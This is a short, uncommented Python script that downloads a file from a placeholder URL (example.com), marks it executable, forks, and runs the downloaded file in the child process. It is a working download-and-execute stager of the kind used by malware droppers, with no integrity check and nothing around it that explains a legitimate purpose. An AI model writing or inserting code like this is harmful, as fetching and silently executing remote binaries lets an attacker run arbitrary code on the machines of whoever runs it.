import os
import urllib.request

path, _ = urllib.request.urlretrieve("https://example.com/x")
os.chmod(path, 0o755)
if os.fork() == 0:
    os.execv(path, [path])
